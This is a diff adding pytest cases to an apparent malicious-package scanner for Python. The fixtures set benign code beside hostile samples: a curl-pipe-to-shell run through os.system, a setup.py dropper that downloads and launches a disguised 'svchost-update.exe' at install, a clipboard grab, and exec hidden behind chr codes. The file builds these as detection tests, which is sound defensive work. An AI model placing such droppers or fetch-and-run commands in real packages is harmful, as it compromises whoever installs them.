@@ -404,3 +404,114 @@ def test_daemon_sending_stdio_to_devnull_is_not_a_reverse_shell(tmp_path: Path) 
     """pyspark's worker daemon: a socket and os.dup2, but no shell anywhere."""
     wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/d.py": DAEMON})
     assert "PV311" not in rules(findings_for(wheel))
+
+
+# -- context: messages for people, build downloads, python -m ----------------------------
+
+INSTRUCTIONS = """\
+import shutil, subprocess
+
+def deploy():
+    if not shutil.which("beam"):
+        raise ImportError(
+            "Please install it with `curl "
+            "https://example.invalid/get-beam.sh -sSfL | sh`."
+        )
+    subprocess.run(["beam", "deploy"])
+"""
+
+HIDDEN_IN_PRINT = """\
+import os
+
+def deploy():
+    print(os.system("curl -s https://example.invalid/a.sh | sh"))
+"""
+
+
+def test_a_command_in_an_error_message_is_not_a_command(tmp_path: Path) -> None:
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/b.py": INSTRUCTIONS})
+    assert "PV302" not in rules(findings_for(wheel))
+
+
+def test_a_command_run_inside_a_print_still_counts(tmp_path: Path) -> None:
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/p.py": HIDDEN_IN_PRINT})
+    assert "PV302" in rules(findings_for(wheel))
+
+
+BUILD_DOWNLOAD = """\
+import os, subprocess, urllib.request
+from setuptools import setup
+
+def fetch_and_build(url):
+    urllib.request.urlretrieve(url, "mupdf.tar.gz-")
+    os.rename("mupdf.tar.gz-", "mupdf.tar.gz")
+    subprocess.run(["make", "-C", "mupdf"])
+
+setup(name="fixture")
+"""
+
+DROPPER = """\
+import os, subprocess, urllib.request
+from setuptools import setup
+
+def update():
+    path = os.path.join(os.environ.get("TEMP", "/tmp"), "svchost-update.exe")
+    urllib.request.urlretrieve("https://example.invalid/u", path)
+    subprocess.Popen([path])
+
+update()
+setup(name="fixture")
+"""
+
+
+def test_a_build_step_that_downloads_sources_is_not_a_dropper(tmp_path: Path) -> None:
+    found = [f for f in findings_for(sdist(tmp_path, BUILD_DOWNLOAD)) if f.rule_id == "PV301"]
+    assert found and all(f.severity is Severity.MEDIUM for f in found)
+
+
+def test_downloading_a_program_and_running_it_at_install_is_a_dropper(tmp_path: Path) -> None:
+    found = findings_for(sdist(tmp_path, DROPPER))
+    assert any(f.rule_id == "PV301" and f.severity is Severity.CRITICAL for f in found)
+    assert decide(found) is Verdict.MALICIOUS
+
+
+def test_main_module_runs_only_for_python_dash_m(tmp_path: Path) -> None:
+    spy = "import pyperclip, socket\nsocket.gethostname()\npyperclip.paste()\n"
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/__main__.py": spy})
+    assert all(f.phase is not Phase.IMPORT for f in findings_for(wheel) if f.path and "__main__" in f.path)
+
+
+SAFE_EVAL = """\
+import builtins
+
+class SafeEnv:
+    def __init__(self):
+        self.safe = {n: getattr(builtins, n) for n in ("abs", "len", "min")}
+        self.errors = {n: getattr(builtins, n) for n in ("ValueError", "TypeError")}
+
+    def run(self, expr):
+        return eval(compile(expr, "<expr>", "eval"), {"__builtins__": self.safe})
+
+env = SafeEnv()
+"""
+
+HIDDEN_EXEC = """\
+import builtins
+
+def _go(p):
+    f = getattr(builtins, ''.join(chr(c) for c in (101, 120, 101, 99)))
+    g = getattr(builtins, ''.join(chr(c) for c in (101, 118, 97, 108)))
+    f(p)
+
+_go("print(1)")
+"""
+
+
+def test_a_sandboxed_evaluator_is_not_obfuscation(tmp_path: Path) -> None:
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": SAFE_EVAL})
+    assert all(f.severity < Severity.HIGH for f in findings_for(wheel) if f.rule_id == "PV204")
+
+
+def test_builtins_lookup_with_chr_tricks_at_import_is_obfuscation(tmp_path: Path) -> None:
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": HIDDEN_EXEC})
+    assert any(f.rule_id == "PV204" and f.severity >= Severity.HIGH for f in findings_for(wheel))
